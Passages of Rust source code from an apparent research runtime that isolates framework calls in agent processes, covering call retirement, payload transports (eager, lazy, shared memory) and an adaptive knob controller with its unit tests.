        if let Some(q) = self.inflight_by_partition.get_mut(&partition) {
            debug_assert_eq!(q.front(), Some(&seq), "per-partition retirement is FIFO");
            q.retain(|s| *s != seq);
        }
        let tracing = self.tracer.enabled();
        let mut outcome = inf.outcome;
        if inf.has_response {
            // The host consumes the response now — under per-process
            // time this merges the host's timeline past the agent's
            // completion (happens-before) and charges delivery latency.
            if let Some(chan) = self.agents.get(&partition).map(|a| a.chan) {
                let _ = self.kernel.ipc_recv(self.host, chan);
            }
            if tracing {
                let now = self.kernel.now_ns();
                self.tracer.span(SpanEvent {
                    phase: SpanPhase::Response,
                    seq,
                    api: Some(inf.api),
                    partition: Some(partition),
                    thread: inf.thread,
                    start_ns: inf.resp_t0,
                    end_ns: now,
                    bytes: inf.resp_len,
                });
            }
        }
        // The host will never re-request this seq: let the agent prune
        // its completion journal up to the watermark. Every batch member
        // acks (only the first carried the frame); FIFO retirement keeps
        // the watermark monotone.
        if inf.has_response || inf.batch {
            if let Some(agent) = self.agents.get_mut(&partition) {
                agent.cache.ack(seq);
            }
        }
        let mut snapshot_due = false;
        if outcome.is_ok() && !inf.booked {
            // The agent record can be gone by retirement time if the
            // supervisor degraded the partition mid-flight (a seal
            // failure after this call's successful execution): book the
            // completion, skip the per-agent counters.
            if let Some(agent) = self.agents.get_mut(&partition) {
                agent.calls += 1;
                snapshot_due = self.policy.snapshot_interval > 0
                    && agent.calls.is_multiple_of(self.policy.snapshot_interval);
            }
            self.stats.rpc_calls += 1;
            self.call_log.push(inf.api);

            // Ship pinned objects back to their data processes.
            if !self.pinned.is_empty() {
                for obj in inf.touched.clone() {
                    if let Err(e) = self.return_pinned(seq, inf.thread, obj) {
                        outcome = Err(e);
                        snapshot_due = false;
                        break;
                    }
                }
            }
        }
        // Periodic stateful snapshots (§A.2.4).
        if snapshot_due {
            self.take_snapshot(partition);
        }
        if tracing {
            let end = self.kernel.now_ns();
            self.tracer.span(SpanEvent {
                phase: SpanPhase::Call,
                seq,
                api: Some(inf.api),
                partition: Some(partition),
                thread: inf.thread,
                start_ns: inf.call_t0,
                end_ns: end,
                bytes: 0,
            });
            let kind = match &outcome {
                Ok(_) => CallOutcome::Completed,
                Err(CallError::Framework(_)) => CallOutcome::Errored,
                Err(CallError::AgentCrashed(_)) | Err(CallError::AgentUnavailable(_)) => {
                    CallOutcome::Faulted
                }
                Err(_) => CallOutcome::Errored,
            };
            // Filter kills surface as crashes too; the dispatch path has
            // already written the finer-grained audit record.
            self.tracer
                .finish_call(seq, partition, inf.api, end - inf.call_t0, kind);
            // Closing a batch's last member closes the enclosing `batch`
            // span: first member's hook entry to here, so it spans every
            // member `call` span. `bytes` carries the member count.
            if let Some((t0, count)) = self.batch_spans.remove(&seq) {
                self.tracer.span(SpanEvent {
                    phase: SpanPhase::Batch,
                    seq,
                    api: None,
                    partition: Some(partition),
                    thread: inf.thread,
                    start_ns: t0,
                    end_ns: end,
                    bytes: count as u64,
                });
            }
        }
        self.retired.insert(seq, (outcome, inf.complete_ns));
    }

    /// Test hook: makes the agent serving `partition` crash right after
    /// its next successful execution, before the response frame is
    /// delivered — the window where a call has completed in the agent but
    /// the host cannot know it. One-shot; used by the exactly-once
    /// regression tests.
    pub fn inject_crash_before_response(&mut self, partition: PartitionId) {
        self.crash_before_response = Some(partition);
    }

    /// Test hook: forces every snapshot restore in `partition`'s next
    /// restart to fail, exercising the audit-and-quarantine path a real
    /// allocation or write error would take. One-shot.
    pub fn inject_restore_failure(&mut self, partition: PartitionId) {
        self.fail_next_restore = Some(partition);
    }
}
