//! Payload transports: *how* an object's bytes become visible to the
//! process about to use them.
//!
//! The call plane decides *which* object an agent needs; a [`Transport`]
//! decides how it gets there:
//!
//! * [`Eager`] — deep copy through the host on every call (the no-LDC
//!   ablation): two counted copies, host-relayed.
//! * [`Lazy`] — Lazy Data Copy (§4.3.2): one direct agent→agent copy at
//!   dereference time.
//! * [`Shm`] — zero-copy: the payload is promoted once into a
//!   kernel-owned shared-memory segment, and delivery grants + page-maps
//!   the consumer a view. No payload byte ever crosses an address space
//!   again; the map-vs-copy cost model makes a page ~20× cheaper to map
//!   than to copy. Grants are *temporal*: the runtime revokes
//!   out-of-state views at every framework-state transition.
//!
//! Transports are stateless; the per-call mutable context travels in
//! [`TransportCtx`]. Which transport serves which object is policy
//! (`Policy::shm_threshold` + `Policy::lazy_data_copy`), chosen
//! per-object in `objstore.rs`.

use super::{CallError, RuntimeStats};
use crate::trace::{AuditRecord, SpanPhase, Tracer};
use freepart_frameworks::{ObjectId, ObjectStore};
use freepart_simos::{Kernel, Perms, Pid};

/// The mutable runtime state a transport needs for one delivery.
pub struct TransportCtx<'a> {
    /// The simulated kernel (time, memory, segments).
    pub kernel: &'a mut Kernel,
    /// The object table.
    pub objects: &'a mut ObjectStore,
    /// Runtime counters (copy counts land here).
    pub stats: &'a mut RuntimeStats,
    /// The observability sink (byte attribution, audit records).
    pub tracer: &'a mut Tracer,
    /// The host process (the eager relay point).
    pub host: Pid,
    /// The logical call this delivery serves (trace attribution).
    pub seq: u64,
    /// The channel penalty factor
    /// ([`ChannelTransport::penalty_factor`][pf]) for copied bytes.
    ///
    /// [pf]: crate::policy::ChannelTransport::penalty_factor
    pub penalty: u64,
}

impl TransportCtx<'_> {
    /// Charges the pipe-vs-shared-memory channel penalty for `bytes`
    /// that were actually copied. Map-based deliveries never call this.
    fn charge_channel_penalty(&mut self, bytes: u64) {
        if self.penalty > 1 {
            let base = self.kernel.cost_model().copy_cost(bytes);
            self.kernel.charge_time(base * (self.penalty - 1));
        }
    }
}

/// One way of delivering an object's payload to a consumer process.
pub trait Transport {
    /// Stable display name ("eager" / "lazy" / "shm").
    fn name(&self) -> &'static str;

    /// The span phase a traced delivery records under.
    fn span_phase(&self) -> SpanPhase;

    /// Makes `obj`'s payload accessible to `agent` (and re-homes the
    /// object there). The caller has already handled the trivial cases:
    /// `obj` exists, is not already homed in `agent`, and carries a
    /// payload (buffer or segment).
    ///
    /// # Errors
    ///
    /// [`CallError::StateLost`] when the payload cannot be delivered
    /// (home crashed mid-copy, segment unmappable).
    fn deliver(
        &self,
        ctx: &mut TransportCtx<'_>,
        obj: ObjectId,
        agent: Pid,
    ) -> Result<(), CallError>;
}

/// Eager deep copy through the host (the no-LDC ablation, Fig. 11-b).
pub struct Eager;
/// Lazy Data Copy: one direct move at dereference (Fig. 11-a).
pub struct Lazy;
/// Zero-copy shared-memory segments with temporal grants.
pub struct Shm;

/// The eager transport instance.
pub static EAGER: Eager = Eager;
/// The lazy (LDC) transport instance.
pub static LAZY: Lazy = Lazy;
/// The shared-memory transport instance.
pub static SHM: Shm = Shm;

impl Transport for Eager {
    fn name(&self) -> &'static str {
        "eager"
    }

    fn span_phase(&self) -> SpanPhase {
        SpanPhase::DataCopy
    }

    fn deliver(
        &self,
        ctx: &mut TransportCtx<'_>,
        obj: ObjectId,
        agent: Pid,
    ) -> Result<(), CallError> {
        let meta = ctx
            .objects
            .meta(obj)
            .ok_or(CallError::StateLost(obj))?
            .clone();
        let len = meta.len();
        // Hop 1: payload to the host relay (skipped when already there).
        if meta.home != ctx.host {
            ctx.objects
                .migrate_direct(ctx.kernel, obj, ctx.host)
                .map_err(|_| CallError::StateLost(obj))?;
            ctx.stats.host_copies += 1;
            ctx.charge_channel_penalty(len);
            ctx.tracer.add_eager_bytes(ctx.seq, len);
        }
        // Hop 2: host to the executing agent.
        ctx.objects
            .migrate_direct(ctx.kernel, obj, agent)
            .map_err(|_| CallError::StateLost(obj))?;
        ctx.stats.host_copies += 1;
        ctx.charge_channel_penalty(len);
        ctx.tracer.add_eager_bytes(ctx.seq, len);
        Ok(())
    }
}

impl Transport for Lazy {
    fn name(&self) -> &'static str {
        "lazy"
    }

    fn span_phase(&self) -> SpanPhase {
        SpanPhase::DataCopy
    }

    fn deliver(
        &self,
        ctx: &mut TransportCtx<'_>,
        obj: ObjectId,
        agent: Pid,
    ) -> Result<(), CallError> {
        let len = ctx.objects.meta(obj).map_or(0, |m| m.len());
        ctx.objects
            .migrate_direct(ctx.kernel, obj, agent)
            .map_err(|_| CallError::StateLost(obj))?;
        ctx.stats.ldc_copies += 1;
        ctx.charge_channel_penalty(len);
        ctx.tracer.add_lazy_bytes(ctx.seq, len);
        Ok(())
    }
}

impl Transport for Shm {
    fn name(&self) -> &'static str {
        "shm"
    }

    fn span_phase(&self) -> SpanPhase {
        SpanPhase::ShmMap
    }

    fn deliver(
        &self,
        ctx: &mut TransportCtx<'_>,
        obj: ObjectId,
        agent: Pid,
    ) -> Result<(), CallError> {
        let meta = ctx
            .objects
            .meta(obj)
            .ok_or(CallError::StateLost(obj))?
            .clone();
        let len = meta.len();
        // Promote a buffer-backed payload into a segment once: the
        // kernel adopts the pages, so promotion copies nothing.
        let seg = match meta.shm {
            Some((seg, _)) => seg,
            None => {
                let seg = ctx
                    .objects
                    .promote_to_shm(ctx.kernel, obj)
                    .map_err(|_| CallError::StateLost(obj))?
                    .ok_or(CallError::StateLost(obj))?;
                if ctx.tracer.enabled() {
                    let at_ns = ctx.kernel.now_ns();
                    ctx.tracer.record_audit(AuditRecord::ShmGrant {
                        at_ns,
                        object: obj,
                        segment: seg,
                        pid: meta.home,
                        bytes: len,
                    });
                }
                seg
            }
        };
        // Grant + map the consumer a view, unless it already holds one.
        // New grants inherit the segment's current lock level (the
        // current user's perms), so delivery cannot widen a temporal
        // read-only lock.
        let viewed = ctx
            .kernel
            .shm_segment(seg)
            .is_some_and(|s| s.grant_of(agent).is_some() && s.is_mapped(agent));
        if !viewed {
            let perms = ctx
                .kernel
                .shm_segment(seg)
                .and_then(|s| s.grant_of(meta.home))
                .unwrap_or(Perms::RW);
            ctx.kernel
                .shm_grant(seg, agent, perms)
                .and_then(|()| ctx.kernel.shm_map(agent, seg))
                .map_err(|_| CallError::StateLost(obj))?;
            if ctx.tracer.enabled() {
                let at_ns = ctx.kernel.now_ns();
                ctx.tracer.record_audit(AuditRecord::ShmGrant {
                    at_ns,
                    object: obj,
                    segment: seg,
                    pid: agent,
                    bytes: len,
                });
            }
        }
        // Re-home: the agent is now the segment's current user. The
        // payload itself never moved — the registry records the mapped
        // length under `bytes_shm` so payload-size estimators keep
        // seeing this object's traffic after promotion.
        ctx.tracer.add_shm_bytes(ctx.seq, len);
        if let Some(m) = ctx.objects.meta_mut(obj) {
            m.home = agent;
        }
        Ok(())
    }
}
