//! The closed-loop adaptive policy controller (§ self-tuning): per
//! (partition, API) estimators fed by the metrics registry, knob
//! decisions taken only at state-transition drain barriers.
//!
//! ## What it tunes
//!
//! Per partition, three knobs the static presets hand-pick:
//!
//! * **shm promotion** — whether payloads at or above the configured
//!   size threshold ride the zero-copy shm transport. Evidence-gated:
//!   promotion turns on only once the partition's EWMA payload size
//!   clears the threshold, and demotes only below half of it (a
//!   hysteresis band), so estimates hovering at the boundary cannot
//!   flap the transport.
//! * **batch window** — starts at the proven batched prior
//!   (`max_batch_window`); batching is disabled only for traffic whose
//!   flushed batches are strictly singleton (where a batch frame's
//!   wrapper bytes cost more than they amortize). The window is never
//!   shrunk below the observed burst size — truncating bursts would
//!   mint extra `WindowFull` frames and regress below the static
//!   batched preset.
//! * **pipeline window** — sized to cover the batch window (a batch is
//!   one in-flight unit), bounded by `max_pipeline_window`.
//!
//! ## Why decisions only happen at drain barriers
//!
//! A knob change mid-flight could split one logical call's payload
//! moves across two transport configurations, or strand an open batch
//! under a window that no longer admits it. At a framework-state
//! transition the call plane has already flushed the open batch,
//! retired every in-flight call (folding their bytes into the
//! registry), and revoked out-of-state shm grants — the system is
//! quiescent, the registry is current, and the next call starts a
//! fresh configuration epoch. Every knob value is individually
//! output-transparent (the transport/batching/pipelining property
//! tests), so a run that switches knobs only at these barriers is
//! byte-identical in outputs to a static configuration.
//!
//! The controller itself only *reads* the virtual clock — estimation
//! and decision-making charge no time, exactly like tracing.

use super::{Runtime, DEFAULT_PIPELINE_WINDOW};
use crate::partition::PartitionId;
use crate::policy::AdaptiveConfig;
use crate::trace::{FlushReason, PolicyDecision, SpanPhase, Tracer};
use freepart_frameworks::api::ApiId;
use std::collections::BTreeMap;

/// Calls-per-batch EWMA (fixed-point ×16) below which flushed batches
/// are considered strictly singleton and batching is disabled: 1.25
/// calls per frame.
const SINGLETON_BATCH_X16: u64 = 20;

/// Flush-mix samples required before the controller trusts the
/// calls-per-batch estimate enough to disable batching.
const MIN_BATCH_SAMPLES: u64 = 2;

/// One partition's knob configuration, as decided by the controller.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct AdaptiveKnobs {
    /// Whether the size-thresholded shm promotion rule is enabled.
    pub shm_promoted: bool,
    /// The batch window (`None` = one frame per call).
    pub batch_window: Option<usize>,
    /// The in-flight (pipeline) window.
    pub pipeline_window: usize,
}

impl AdaptiveKnobs {
    /// The warmup configuration every partition starts from: the
    /// batched prior (proven never worse than unbatched on every
    /// preset workload), shm promotion off until payload evidence
    /// clears the threshold, the default pipeline window.
    fn initial(cfg: &AdaptiveConfig) -> AdaptiveKnobs {
        AdaptiveKnobs {
            shm_promoted: false,
            batch_window: Some(cfg.max_batch_window.max(1)),
            pipeline_window: DEFAULT_PIPELINE_WINDOW.min(cfg.max_pipeline_window).max(1),
        }
    }
}

/// Integer EWMA: blend `sample` in at weight `1 / 2^shift`. The first
/// sample seeds the estimate directly (`seeded = false`).
fn blend(prev: u64, sample: u64, shift: u32, seeded: bool) -> u64 {
    if !seeded {
        return sample;
    }
    prev - (prev >> shift) + (sample >> shift)
}

fn flush_index(reason: FlushReason) -> usize {
    match reason {
        FlushReason::PartitionSwitch => 0,
        FlushReason::Hazard => 1,
        FlushReason::Transition => 2,
        FlushReason::WindowFull => 3,
    }
}

/// Per-(partition, API) flow estimator: a cursor into the cumulative
/// registry cell plus the payload-size EWMA.
#[derive(Debug, Clone, Copy, Default)]
struct Flow {
    /// Registry `calls` already consumed (cursor).
    seen_calls: u64,
    /// Registry payload bytes (lazy + eager + shm) already consumed.
    seen_bytes: u64,
    /// EWMA payload bytes per retired call.
    ewma_bytes_per_call: u64,
    /// Decision windows that contributed a sample.
    samples: u64,
}

/// Per-partition aggregate estimator (what knob decisions read).
#[derive(Debug, Clone, Copy, Default)]
struct PartitionEstimate {
    /// EWMA payload bytes per retired call, across the partition's APIs.
    ewma_bytes_per_call: u64,
    /// EWMA virtual-ns between retirements (decision window / calls).
    ewma_gap_ns: u64,
    /// Decision windows that contributed a sample.
    samples: u64,
}

/// The controller: estimators + per-partition knobs + hysteresis state.
#[derive(Debug)]
pub(super) struct Controller {
    pub(super) cfg: AdaptiveConfig,
    knobs: BTreeMap<PartitionId, AdaptiveKnobs>,
    flows: BTreeMap<(PartitionId, ApiId), Flow>,
    parts: BTreeMap<PartitionId, PartitionEstimate>,
    /// Hold-down counters: a partition whose knobs just moved keeps
    /// them pinned for `cfg.hold_points` decision points.
    hold: BTreeMap<PartitionId, u32>,
    /// Virtual time of the previous decision point.
    last_decision_ns: u64,
    /// Span-log cursor (host-dereference counting).
    events_cursor: usize,
    /// Flush-log cursor (flush-reason mix + calls-per-batch).
    flushes_cursor: usize,
    /// Global EWMA calls per flushed batch, fixed-point ×16. Global
    /// because flush records carry the submitting thread, not a
    /// partition.
    ewma_calls_per_batch_x16: u64,
    batch_samples: u64,
}

impl Controller {
    pub(super) fn new(cfg: AdaptiveConfig) -> Controller {
        Controller {
            cfg,
            knobs: BTreeMap::new(),
            flows: BTreeMap::new(),
            parts: BTreeMap::new(),
            hold: BTreeMap::new(),
            last_decision_ns: 0,
            events_cursor: 0,
            flushes_cursor: 0,
            ewma_calls_per_batch_x16: 0,
            batch_samples: 0,
        }
    }

    /// The knobs currently in force for `partition`.
    pub(super) fn knobs_for(&self, partition: PartitionId) -> AdaptiveKnobs {
        self.knobs
            .get(&partition)
            .copied()
            .unwrap_or_else(|| AdaptiveKnobs::initial(&self.cfg))
    }

    /// Per-(partition, API) payload estimates:
    /// `(partition, api, ewma bytes/call, samples)`.
    pub(super) fn flow_estimates(&self) -> Vec<(PartitionId, ApiId, u64, u64)> {
        self.flows
            .iter()
            .filter(|(_, f)| f.samples > 0)
            .map(|((p, a), f)| (*p, *a, f.ewma_bytes_per_call, f.samples))
            .collect()
    }

    /// Estimator reset after an agent restart: the respawned agent's
    /// traffic may look nothing like its predecessor's, so accumulated
    /// EWMAs are dropped. Registry *cursors* are kept (the registry is
    /// cumulative) and knobs are untouched — knob changes happen only
    /// at drain barriers, never mid-restart.
    pub(super) fn reset_partition(&mut self, partition: PartitionId) {
        for ((p, _), f) in self.flows.iter_mut() {
            if *p == partition {
                f.ewma_bytes_per_call = 0;
                f.samples = 0;
            }
        }
        self.parts.remove(&partition);
    }

    /// One decision point, at a state-transition drain barrier: fold
    /// registry/span/flush deltas into the estimators, then re-pick
    /// each active partition's knobs under hysteresis. Every partition
    /// that saw traffic emits one [`PolicyDecision`] record (with
    /// `changed = false` for holds and re-confirmations).
    pub(super) fn decide(&mut self, tracer: &mut Tracer, now: u64, seq: u64) {
        // Host dereferences since the previous decision point (global —
        // HostFetch spans carry no partition attribution).
        let host_fetches = tracer
            .events_since(self.events_cursor)
            .iter()
            .filter(|e| e.phase == SpanPhase::HostFetch)
            .count() as u64;
        self.events_cursor = tracer.events().len();

        // Flush-reason mix + calls-per-batch since the previous point.
        let mut flush_mix = [0u64; 4];
        let mut flush_frames = 0u64;
        let mut flush_calls = 0u64;
        for (_, _, reason, calls) in &tracer.batch_flushes()[self.flushes_cursor..] {
            flush_mix[flush_index(*reason)] += 1;
            flush_frames += 1;
            flush_calls += *calls as u64;
        }
        self.flushes_cursor = tracer.batch_flushes().len();
        if let Some(sample) = (flush_calls * 16).checked_div(flush_frames) {
            self.ewma_calls_per_batch_x16 = blend(
                self.ewma_calls_per_batch_x16,
                sample,
                self.cfg.ewma_shift,
                self.batch_samples > 0,
            );
            self.batch_samples += 1;
        }

        // Registry deltas per flow, aggregated per partition.
        let mut part_calls: BTreeMap<PartitionId, u64> = BTreeMap::new();
        let mut part_bytes: BTreeMap<PartitionId, u64> = BTreeMap::new();
        for ((p, api), cell) in tracer.stats() {
            let flow = self.flows.entry((*p, *api)).or_default();
            let total_bytes = cell.bytes_lazy + cell.bytes_eager + cell.bytes_shm;
            let d_calls = cell.calls - flow.seen_calls;
            let d_bytes = total_bytes - flow.seen_bytes;
            if let Some(per_call) = d_bytes.checked_div(d_calls) {
                flow.ewma_bytes_per_call = blend(
                    flow.ewma_bytes_per_call,
                    per_call,
                    self.cfg.ewma_shift,
                    flow.samples > 0,
                );
                flow.samples += 1;
            }
            flow.seen_calls = cell.calls;
            flow.seen_bytes = total_bytes;
            *part_calls.entry(*p).or_default() += d_calls;
            *part_bytes.entry(*p).or_default() += d_bytes;
        }

        let window_ns = now.saturating_sub(self.last_decision_ns);
        self.last_decision_ns = now;

        for (partition, d_calls) in part_calls {
            if d_calls == 0 {
                continue;
            }
            let d_bytes = part_bytes.get(&partition).copied().unwrap_or(0);
            let est = self.parts.entry(partition).or_default();
            let seeded = est.samples > 0;
            est.ewma_bytes_per_call = blend(
                est.ewma_bytes_per_call,
                d_bytes / d_calls,
                self.cfg.ewma_shift,
                seeded,
            );
            est.ewma_gap_ns = blend(
                est.ewma_gap_ns,
                window_ns / d_calls,
                self.cfg.ewma_shift,
                seeded,
            );
            est.samples += 1;
            let est = *est;

            let old = self.knobs_for(partition);
            let mut next = old;
            // Transport: promote at the threshold, demote only below
            // half of it — the hysteresis band.
            if est.ewma_bytes_per_call >= self.cfg.shm_threshold {
                next.shm_promoted = true;
            } else if est.ewma_bytes_per_call < self.cfg.shm_threshold / 2 {
                next.shm_promoted = false;
            }
            // Batching: stay at the proven prior unless flushed batches
            // are strictly singleton (then the wrapper frame costs more
            // than it amortizes and batching turns off).
            if self.batch_samples >= MIN_BATCH_SAMPLES {
                next.batch_window = if self.ewma_calls_per_batch_x16 < SINGLETON_BATCH_X16 {
                    None
                } else {
                    Some(self.cfg.max_batch_window.max(1))
                };
            }
            // Pipelining: the window must cover the batch (a batch is
            // one in-flight unit; a smaller window would force-retire
            // into the open batch's members).
            next.pipeline_window = next
                .batch_window
                .unwrap_or(0)
                .max(DEFAULT_PIPELINE_WINDOW)
                .min(self.cfg.max_pipeline_window)
                .max(1);

            // Hysteresis hold-down, then apply.
            let held = self.hold.get(&partition).copied().unwrap_or(0);
            let changed = next != old && held == 0;
            if changed {
                self.knobs.insert(partition, next);
                self.hold.insert(partition, self.cfg.hold_points);
            } else if held > 0 {
                self.hold.insert(partition, held - 1);
            }
            let effective = if changed { next } else { old };
            tracer.record_decision(PolicyDecision {
                at_ns: now,
                seq,
                partition,
                shm_promoted: effective.shm_promoted,
                batch_window: effective.batch_window,
                pipeline_window: effective.pipeline_window,
                est_bytes_per_call: est.ewma_bytes_per_call,
                est_gap_ns: est.ewma_gap_ns,
                est_calls_per_batch_x16: self.ewma_calls_per_batch_x16,
                est_host_fetches: host_fetches,
                flush_mix,
                changed,
            });
        }
    }
}

impl Runtime {
    /// The batch window in force for `partition`: the controller's
    /// per-partition knob when adaptive, else the static policy field.
    pub(super) fn batch_window_for(&self, partition: PartitionId) -> Option<usize> {
        match &self.controller {
            Some(c) => c.knobs_for(partition).batch_window,
            None => self.policy.batch_window,
        }
    }

    /// The shm promotion threshold in force for `partition`: the
    /// configured threshold when the controller has promoted the
    /// partition (else `None`), or the static policy field.
    pub(super) fn shm_threshold_for(&self, partition: PartitionId) -> Option<u64> {
        match &self.controller {
            Some(c) => c
                .knobs_for(partition)
                .shm_promoted
                .then_some(c.cfg.shm_threshold),
            None => self.policy.shm_threshold,
        }
    }

    /// The in-flight window in force for `partition`: the controller's
    /// per-partition knob when adaptive, else the runtime-wide setting.
    pub(super) fn pipeline_window_for(&self, partition: PartitionId) -> usize {
        match &self.controller {
            Some(c) => c.knobs_for(partition).pipeline_window,
            None => self.pipeline_window,
        }
    }

    /// One adaptive decision point, called from the submit path inside
    /// a state-transition drain barrier (batch flushed, in-flight
    /// drained, grants revoked). No-op without the controller. Charges
    /// no virtual time.
    pub(super) fn adaptive_decision_point(&mut self, seq: u64) {
        if let Some(c) = self.controller.as_mut() {
            let now = self.kernel.now_ns();
            c.decide(&mut self.tracer, now, seq);
        }
    }

    /// Whether the adaptive controller is driving this runtime's knobs.
    pub fn adaptive_enabled(&self) -> bool {
        self.controller.is_some()
    }

    /// The knobs currently in force for `partition` under the adaptive
    /// controller (`None` when the controller is off).
    pub fn adaptive_knobs(&self, partition: PartitionId) -> Option<AdaptiveKnobs> {
        self.controller.as_ref().map(|c| c.knobs_for(partition))
    }

    /// Per-(partition, API) adaptive payload estimates:
    /// `(partition, api, EWMA bytes/call, samples)`. Empty when the
    /// controller is off (or nothing has retired yet).
    pub fn adaptive_flows(&self) -> Vec<(PartitionId, ApiId, u64, u64)> {
        self.controller
            .as_ref()
            .map(Controller::flow_estimates)
            .unwrap_or_default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cfg() -> AdaptiveConfig {
        AdaptiveConfig::default()
    }

    #[test]
    fn initial_knobs_are_the_batched_prior() {
        let k = AdaptiveKnobs::initial(&cfg());
        assert!(!k.shm_promoted, "shm promotion is evidence-gated");
        assert_eq!(k.batch_window, Some(8));
        assert_eq!(k.pipeline_window, 4);
    }

    #[test]
    fn blend_seeds_then_smooths() {
        assert_eq!(blend(0, 1000, 1, false), 1000);
        assert_eq!(blend(1000, 1000, 1, true), 1000);
        // Half-weight blend moves halfway toward the sample.
        assert_eq!(blend(1000, 2000, 1, true), 1500);
        assert_eq!(blend(2000, 0, 1, true), 1000);
    }

    #[test]
    fn promotion_hysteresis_band() {
        let mut c = Controller::new(cfg());
        let p = PartitionId(0);
        let mut tracer = Tracer::new();
        tracer.enable();
        // Seed a flow well above the threshold via the registry.
        tracer.begin_call(1);
        tracer.add_lazy_bytes(1, 8192);
        tracer.finish_call(1, p, ApiId(0), 100, crate::trace::CallOutcome::Completed);
        c.decide(&mut tracer, 1_000, 1);
        assert!(c.knobs_for(p).shm_promoted, "8 KiB/call promotes");
        let decisions = tracer.policy_decisions();
        assert_eq!(decisions.len(), 1);
        assert!(decisions[0].changed);
        assert_eq!(decisions[0].est_bytes_per_call, 8192);
        // A window at 600 B/call sits inside the band [512, 1024):
        // no demotion (but the EWMA decays toward it).
        tracer.begin_call(2);
        tracer.add_lazy_bytes(2, 600);
        tracer.finish_call(2, p, ApiId(0), 100, crate::trace::CallOutcome::Completed);
        // Burn through the hold-down with idle decision points first.
        for s in 3..=(2 + u64::from(cfg().hold_points)) {
            c.decide(&mut tracer, 1_000 * s, s);
        }
        c.decide(&mut tracer, 10_000, 9);
        assert!(
            c.knobs_for(p).shm_promoted,
            "in-band estimates must not demote"
        );
    }

    #[test]
    fn hold_down_pins_knobs_after_a_change() {
        let mut c = Controller::new(cfg());
        let p = PartitionId(0);
        let mut tracer = Tracer::new();
        tracer.enable();
        tracer.begin_call(1);
        tracer.add_lazy_bytes(1, 8192);
        tracer.finish_call(1, p, ApiId(0), 100, crate::trace::CallOutcome::Completed);
        c.decide(&mut tracer, 1_000, 1);
        assert!(c.knobs_for(p).shm_promoted);
        // A sudden collapse to zero-byte calls wants demotion, but the
        // hold-down pins the knobs for `hold_points` decision points —
        // and the EWMA itself takes log2(8192/512) = 4 windows to decay
        // below the demotion bound. Feed zero-byte windows and record
        // when demotion lands.
        let hold = u64::from(cfg().hold_points);
        let mut demoted_at = None;
        for s in 2..=12u64 {
            tracer.begin_call(s);
            tracer.finish_call(s, p, ApiId(0), 100, crate::trace::CallOutcome::Completed);
            c.decide(&mut tracer, 1_000 * s, s);
            if s <= 1 + hold {
                assert!(c.knobs_for(p).shm_promoted, "held at point {s}");
            }
            if demoted_at.is_none() && !c.knobs_for(p).shm_promoted {
                demoted_at = Some(s);
            }
        }
        let s = demoted_at.expect("zero-byte traffic eventually demotes");
        assert!(s > 1 + hold, "demotion cannot land inside the hold-down");
    }

    #[test]
    fn singleton_batches_disable_batching() {
        let mut c = Controller::new(cfg());
        let p = PartitionId(0);
        let mut tracer = Tracer::new();
        tracer.enable();
        for s in 1..=4u64 {
            tracer.begin_call(s);
            tracer.add_lazy_bytes(s, 16);
            tracer.finish_call(s, p, ApiId(0), 100, crate::trace::CallOutcome::Completed);
            tracer.note_batch_flush(
                s * 100,
                crate::runtime::ThreadId::MAIN,
                FlushReason::PartitionSwitch,
                1,
            );
            c.decide(&mut tracer, 1_000 * s, s);
        }
        assert_eq!(
            c.knobs_for(p).batch_window,
            None,
            "strictly singleton batches turn batching off"
        );
        // Bursty flushes re-enable it (after the hold expires).
        for s in 5..=12u64 {
            tracer.begin_call(s);
            tracer.add_lazy_bytes(s, 16);
            tracer.finish_call(s, p, ApiId(0), 100, crate::trace::CallOutcome::Completed);
            tracer.note_batch_flush(
                s * 100,
                crate::runtime::ThreadId::MAIN,
                FlushReason::WindowFull,
                8,
            );
            c.decide(&mut tracer, 1_000 * s, s);
        }
        assert_eq!(c.knobs_for(p).batch_window, Some(8));
        assert_eq!(c.knobs_for(p).pipeline_window, 8, "window covers the batch");
    }

    #[test]
    fn restart_reset_clears_estimates_but_not_knobs_or_cursors() {
        let mut c = Controller::new(cfg());
        let p = PartitionId(0);
        let mut tracer = Tracer::new();
        tracer.enable();
        tracer.begin_call(1);
        tracer.add_lazy_bytes(1, 8192);
        tracer.finish_call(1, p, ApiId(0), 100, crate::trace::CallOutcome::Completed);
        c.decide(&mut tracer, 1_000, 1);
        assert!(c.knobs_for(p).shm_promoted);
        assert_eq!(c.flow_estimates().len(), 1);
        c.reset_partition(p);
        assert!(c.flow_estimates().is_empty(), "estimates dropped");
        assert!(c.knobs_for(p).shm_promoted, "knobs survive the restart");
        // The registry cursor survived: an idle decision point sees no
        // delta and does not re-count historical bytes.
        c.decide(&mut tracer, 2_000, 2);
        assert!(c.flow_estimates().is_empty());
    }
}
