//! One delivery attempt to an agent: request framing, journal replay,
//! data-plane payload moves, agent-context execution, completion
//! journaling, and the response leg. The host-side half of a call
//! (response consumption, bookkeeping) lives in `callplane.rs`.

use super::callplane::Dispatched;
use super::{CallError, CallHandle, Runtime, ThreadId};
use crate::partition::PartitionId;
use crate::policy::{RestartPolicy, SandboxLevel};
use crate::rpc::{Request, Response};
use crate::trace::{SpanEvent, SpanPhase};
use freepart_frameworks::api::ApiId;
use freepart_frameworks::exec::execute;
use freepart_frameworks::{ApiCtx, ObjectId, Value};
use freepart_simos::FaultKind;

impl Runtime {
    /// One delivery attempt to an agent: marshals the request, moves
    /// argument payloads, executes agent-side, journals the completion,
    /// and *sends* the response — but does not consume it. `seq`
    /// identifies the logical call and is reused verbatim on
    /// crash-retries. The host-side half lives in `retire_one`.
    pub(super) fn dispatch_execute(
        &mut self,
        thread: ThreadId,
        partition: PartitionId,
        seq: u64,
        api: ApiId,
        args: &[Value],
        deps: &[CallHandle],
    ) -> Result<Dispatched, CallError> {
        let agent_pid = self
            .agents
            .get(&partition)
            .ok_or(CallError::AgentUnavailable(partition))?
            .pid;
        if !self.kernel.is_running(agent_pid) {
            if self.policy.restart == RestartPolicy::Restart {
                self.restart_agent_on(partition, thread);
            } else {
                return Err(CallError::AgentUnavailable(partition));
            }
        }
        // Re-resolve: the restart may have installed a fresh pid — or
        // degraded the partition (budget exhausted, seal failure), in
        // which case the call fails fast instead of indexing a gone
        // agent record.
        let agent_pid = self
            .agents
            .get(&partition)
            .ok_or(CallError::AgentUnavailable(partition))?
            .pid;

        // --- request frame host → agent ---
        // Batched mode buffers the encoded frame for the next batch
        // flush (one IPC frame for N calls) instead of sending it now;
        // execution stays eager either way.
        let batched = self.batch_window_for(partition).is_some();
